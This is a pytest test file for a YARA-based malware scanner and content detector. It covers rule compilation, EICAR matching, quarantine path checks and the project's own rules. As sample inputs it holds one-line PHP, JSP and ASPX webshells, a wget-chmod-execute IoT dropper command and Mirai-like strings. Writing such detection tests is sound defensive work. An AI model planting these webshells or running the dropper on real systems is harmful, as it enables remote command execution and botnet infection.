"""YARA: compiling (all of signature-base, errors per file), scanning, alerts, the project's
own rules on samples written here, and the content detector's limits."""

from __future__ import annotations

import base64
import hashlib
import os
from pathlib import Path

import pytest

from rules.yara.detector import YaraContentDetector
from rules.yara.scanner import BUILTIN_DIR, ScanTarget, YaraScanner, compile_rules, rule_files
from soc_core.clock import FrozenClock
from soc_core.contracts import Detector
from tests.conftest import FROZEN_AT, corpus_path

# The published EICAR test string (https://www.eicar.org), split so this file is not itself a test file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture(scope="module")
def builtin() -> YaraScanner:
    ruleset = compile_rules()
    assert ruleset.errors == ()
    return YaraScanner(ruleset, clock=FrozenClock(FROZEN_AT))


def names(alerts: list[dict[str, object]]) -> list[str]:
    return sorted(a["rule"]["name"] for a in alerts)  # type: ignore[index]


def test_signature_base_compiles_whole_with_the_externals() -> None:
    folder = corpus_path("yara", "signature-base", "yara")
    files = rule_files([folder])
    ruleset = compile_rules([folder])
    assert ruleset.errors == ()
    assert len(ruleset.files) == len(files) + len(rule_files([BUILTIN_DIR]))
    assert len(files) == 741
    assert ruleset.rule_count > 5800


def test_a_broken_file_is_reported_with_its_line_and_the_others_load(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text('rule broken {\n  strings: $a = "x"\n  condition: $a and nosuch\n}\n')
    (tmp_path / "good.yar").write_text('rule good { strings: $a = "needle" condition: $a }\n')
    ruleset = compile_rules([tmp_path], include_builtin=False)
    assert len(ruleset.errors) == 1
    error = ruleset.errors[0]
    assert (error.path, error.line) == (str(tmp_path / "bad.yar"), 3)
    assert "nosuch" in str(error)
    assert str(error).startswith(f"{tmp_path / 'bad.yar'}:3: ")
    scanner = YaraScanner(ruleset)
    assert names(scanner.scan(ScanTarget(b"a needle here", "x"))) == ["good"]


def test_corpus_eicar_matches_with_offsets_and_hashes(builtin: YaraScanner) -> None:
    path = corpus_path("yara", "eicar", "eicar.com.txt")
    alerts = builtin.scan_path(path)
    assert names(alerts) == ["SOC_EICAR_Test_File"]
    alert = alerts[0]
    assert alert["file"]["hash"]["md5"] == "44d88612fea8a8f36de82e1278abb02f"
    assert alert["file"]["hash"]["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert alert["file"]["path"] == str(path.resolve())
    assert alert["file"]["size"] == 68
    assert alert["yara"]["matched_strings"] == [
        {"identifier": "$eicar", "offsets": [0], "length": 68, "count": 1,
         "preview": EICAR[:64].decode()}]
    assert alert["@timestamp"] == "2026-11-22T12:00:00.000Z"
    assert alert["event"]["kind"] == "alert"
    # The same file scanned again gives the same alert id (stored once).
    assert builtin.scan_path(path)[0]["event"]["id"] == alert["event"]["id"]


def test_signature_base_also_finds_eicar() -> None:
    ruleset = compile_rules([corpus_path("yara", "signature-base", "yara")], include_builtin=False)
    alerts = YaraScanner(ruleset).scan_path(corpus_path("yara", "eicar", "eicar.com.txt"))
    assert "SUSP_Just_EICAR" in names(alerts)


def test_eicar_rule_follows_the_standard(builtin: YaraScanner) -> None:
    assert names(builtin.scan(ScanTarget(EICAR + b"\r\n   ", "e.com"))) == ["SOC_EICAR_Test_File"]
    assert builtin.scan(ScanTarget(b"junk" + EICAR, "e.com")) == []  # must start the file
    assert builtin.scan(ScanTarget(EICAR + b" " * 100, "e.com")) == []  # at most 128 bytes


@pytest.mark.parametrize(("name", "content", "expected"), [
    ("up.php", b"<?php @eval($_POST['z0']);?>", ["SOC_Webshell_PHP_Request_Eval"]),
    ("img.php", b"GIF89a<?php system(base64_decode($_REQUEST['c'])); ?>", ["SOC_Webshell_PHP_Request_Eval"]),
    ("t.php", b"<?php $o = `$_GET['cmd']`; echo $o; ?>", ["SOC_Webshell_PHP_Request_Eval"]),
    ("ok.php", b"<?php echo htmlspecialchars($_GET['q']); eval('1+1'); ?>", []),
    ("c.jsp", b'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
     ["SOC_Webshell_JSP_Runtime_Exec"]),
    ("c.aspx", b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
     ["SOC_Webshell_ASPX_Request_Eval"]),
    ("ok.aspx", b'<%@ Page Language="C#"%><% Response.Write(Request.QueryString["q"]); %>', []),
    ("bins.sh", b"cd /tmp || cd /var/run; wget http://198.51.100.23/bins/x86; chmod 777 x86; ./x86 sh\n",
     ["SOC_IoT_Shell_Dropper"]),
    ("backup.sh", b"cd /tmp\nwget https://updates.example.org/fw.bin\nsha256sum fw.bin\n", []),
])
def test_project_rules_on_samples(builtin: YaraScanner, name: str, content: bytes, expected: list[str]) -> None:
    assert names(builtin.scan(ScanTarget(content, f"/srv/www/{name}"))) == expected


def test_mirai_like_elf_needs_the_elf_header_and_four_strings(builtin: YaraScanner) -> None:
    strings = [b"/dev/watchdog", b"/dev/misc/watchdog", b"/bin/busybox ECCHI", b"TSource Engine Query"]
    body = b"\x00".join(strings)
    elf = b"\x7fELF\x01\x01\x01" + b"\x00" * 9 + body
    assert names(builtin.scan(ScanTarget(elf, "fw/bin/dvrHelper"))) == ["SOC_IoT_Mirai_Family_Strings"]
    assert builtin.scan(ScanTarget(b"#!/bin/sh\n" + body, "notes.txt")) == []
    assert builtin.scan(ScanTarget(b"\x7fELF" + b"\x00".join(strings[:3]), "x")) == []


def test_externals_are_set_per_file(tmp_path: Path) -> None:
    (tmp_path / "ext.yar").write_text(
        'rule by_name { condition: filename == "shell.php" and extension == ".php" and filetype == "PHP" }\n'
        'rule by_type { condition: filetype == "ELF" and filepath contains "/fw/" }\n')
    scanner = YaraScanner(compile_rules([tmp_path / "ext.yar"], include_builtin=False))
    assert names(scanner.scan(ScanTarget(b"x", "/srv/shell.php"))) == ["by_name"]
    assert names(scanner.scan(ScanTarget(b"x", "/srv/other.php"))) == []
    assert names(scanner.scan(ScanTarget(b"\x7fELF....", "/img/fw/busybox"))) == ["by_type"]


def test_size_limit_skips_and_counts(tmp_path: Path) -> None:
    big = tmp_path / "big.bin"
    big.write_bytes(EICAR)
    scanner = YaraScanner(compile_rules(), max_file_bytes=10)
    assert list(scanner.scan_paths([tmp_path])) == []
    assert scanner.stats.too_large == 1
    assert scanner.stats.scanned == 0


def _content_event(**file: object) -> dict[str, object]:
    return {"@timestamp": "2026-11-22T07:00:00.000Z", "event": {"id": "upload-1", "kind": "event"},
            "host": {"name": "quarantine-01"}, "file": dict(file)}


def test_content_detector_scans_base64_content() -> None:
    det = YaraContentDetector()
    assert isinstance(det, Detector)
    alerts = det.detect(_content_event(name="invoice.com", content_base64=base64.b64encode(EICAR).decode()))
    assert names(alerts) == ["SOC_EICAR_Test_File"]
    assert alerts[0]["@timestamp"] == "2026-11-22T07:00:00.000Z"
    assert alerts[0]["yara"]["event_id"] == "upload-1"
    assert alerts[0]["host"] == {"name": "quarantine-01"}
    assert alerts[0]["file"]["name"] == "invoice.com"
    assert det.detect({"event": {"id": "x"}, "message": "no file here"}) == []
    assert det.stats.scanned == 1


def test_content_detector_limits() -> None:
    det = YaraContentDetector(max_bytes=1024)
    assert det.detect(_content_event(content_base64=base64.b64encode(b"A" * 2000).decode())) == []
    assert det.stats.too_large == 1
    assert det.detect(_content_event(content_base64="not base64!")) == []
    assert det.stats.bad_base64 == 1
    assert det.stats.scanned == 0


def test_content_detector_reads_only_inside_quarantine(tmp_path: Path) -> None:
    quarantine = tmp_path / "quarantine"
    quarantine.mkdir()
    (quarantine / "sample.bin").write_bytes(EICAR)
    outside = tmp_path / "outside.bin"
    outside.write_bytes(EICAR)
    os.symlink(outside, quarantine / "escape.bin")
    det = YaraContentDetector(quarantine_dirs=[quarantine])
    assert names(det.detect(_content_event(path=str(quarantine / "sample.bin")))) == ["SOC_EICAR_Test_File"]
    assert det.detect(_content_event(path=str(outside))) == []
    assert det.detect(_content_event(path=str(quarantine / "escape.bin"))) == []
    assert det.detect(_content_event(path=str(quarantine / ".." / "outside.bin"))) == []
    assert det.stats.outside_quarantine == 3
    assert det.stats.scanned == 1
